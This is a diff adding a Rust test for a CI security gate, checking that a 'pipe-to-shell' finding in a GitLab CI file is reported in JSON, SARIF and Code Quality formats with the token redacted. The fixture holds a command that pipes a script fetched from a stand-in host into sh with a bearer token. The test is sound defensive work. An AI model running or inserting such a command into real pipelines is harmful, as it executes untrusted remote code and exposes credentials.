@@ -1018,3 +1018,69 @@ fn the_xml_checker_accepts_gitlab_junit_and_rejects_broken_xml() {
     assert_eq!(ok.attr("x"), "'\n");
     assert_eq!(ok.text, "<x>&");
 }
+
+#[test]
+fn command_findings_carry_the_command_and_line_in_every_format() {
+    let repo = cavra_tests::TestRepo::new();
+    repo.write("README.md", "x\n");
+    repo.commit("base");
+    repo.branch("feature");
+    repo.write(
+        ".gitlab-ci.yml",
+        "test:\n  script:\n    - make test\n    - 'curl -H \"Authorization: Bearer s3cr3tvalue\" https://x.example/i.sh | sh'\n",
+    );
+    repo.commit("head");
+    let mut opts = GateOptions {
+        repo_path: repo.path().to_path_buf(),
+        ..options(&fixture(), "main", "HEAD", Vec::new())
+    };
+    opts.revisions.head = None;
+    let v = run_gate(&opts, &|_| None).unwrap();
+    let out = render_all(&v);
+    let s = schemas();
+    let json: Value = serde_json::from_str(&out["json"]).unwrap();
+    assert_valid(&s.gate, &json, "the verdict");
+    let finding = json["changes"][0]["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["rule"] == "pipe-to-shell")
+        .unwrap();
+    assert_eq!(finding["line"], 4);
+    assert_eq!(finding["command"]["context"], "gitlab-ci");
+    assert_eq!(finding["command"]["step"], "test.script[1]");
+    assert_eq!(
+        finding["command"]["command"],
+        "curl -H 'Authorization: ***' https://x.example/i.sh | sh"
+    );
+    let sarif: Value = serde_json::from_str(&out["sarif"]).unwrap();
+    assert_valid(&s.sarif, &sarif, "the SARIF log");
+    assert!(
+        sarif_results(&sarif).contains(&(
+            "pipe-to-shell".to_string(),
+            "error".to_string(),
+            ".gitlab-ci.yml".to_string(),
+            4
+        )),
+        "{:?}",
+        sarif_results(&sarif)
+    );
+    let cq: Value = serde_json::from_str(&out["codequality"]).unwrap();
+    assert_valid(&s.codequality, &cq, "the Code Quality report");
+    let issue = cq
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|i| i["check_name"] == "pipe-to-shell")
+        .unwrap();
+    assert_eq!(issue["location"]["lines"]["begin"], 4);
+    for (format, text) in &out {
+        if *format != "json" {
+            assert!(
+                text.contains("https://x.example/i.sh"),
+                "{format} names the command"
+            );
+        }
+        assert!(!text.contains("s3cr3tvalue"), "{format} leaks the secret");
+    }
+}
